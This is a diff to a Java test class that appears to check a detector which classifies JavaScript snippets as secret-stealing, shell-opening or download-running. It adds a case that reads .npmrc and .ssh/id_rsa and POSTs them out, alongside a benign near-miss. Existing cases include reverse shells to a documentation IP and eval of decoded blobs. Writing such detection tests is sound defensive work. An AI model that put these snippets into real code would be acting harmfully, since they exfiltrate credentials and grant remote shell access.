@@ -34,6 +34,8 @@ class ProgramFormsTest {
                         + " ~ RUNS_DOWNLOAD",
                 "(0,eval)(atob('BLOB')) ~ RUNS_DECODED",
                 "eval(String.fromCharCode(1,2,3,4,5,6,7,8,9,1,2,3,4,5,6,7,8,9,1,2,3,4)) ~ RUNS_DECODED",
+                "for(const f of ['.npmrc','.ssh/id_rsa']){const c=fs.readFileSync(`${home}/${f}`);fetch(u,{method:'POST',body:c})}"
+                        + " ~ SENDS_SECRETS",
                 "const {connect}=require('net');const s=connect(1,'192.0.2.1',()=>{spawn('/bin/sh',[],{stdio:[s,s,s]})})"
                         + " ~ OPENS_SHELL",
                 "const s=net.connect(1,'192.0.2.1');s.on('data',d=>exec(d.toString(),(e,o)=>s.write(o))) ~ OPENS_SHELL",
@@ -53,6 +55,7 @@ class ProgramFormsTest {
                 "fetch(u).then(r=>r.text()).then(t=>{fs.writeFileSync('/tmp/m.json',t)});require('/tmp/m.js')",
                 "const f=fs.createWriteStream('/tmp/x.sh');https.get(u,r=>r.pipe(f));exec('sh /tmp/y.sh')",
                 "const s=String.fromCharCode(1,2,3,4,5,6,7,8,9,1,2,3,4,5,6,7,8,9,1,2,3,4);eval(y)",
+                "for(const f of ['a.json','b.json']){const c=fs.readFileSync(`${home}/${f}`);fetch(u,{method:'POST',body:c})}",
                 "const {connect}=require('net');const s=connect(1,'db.example.com');s.on('data',d=>console.log(d));exec('make')",
                 "const s=net.connect(1,'db.example.com');s.on('data',d=>{log(d);exec('make')})",
             })
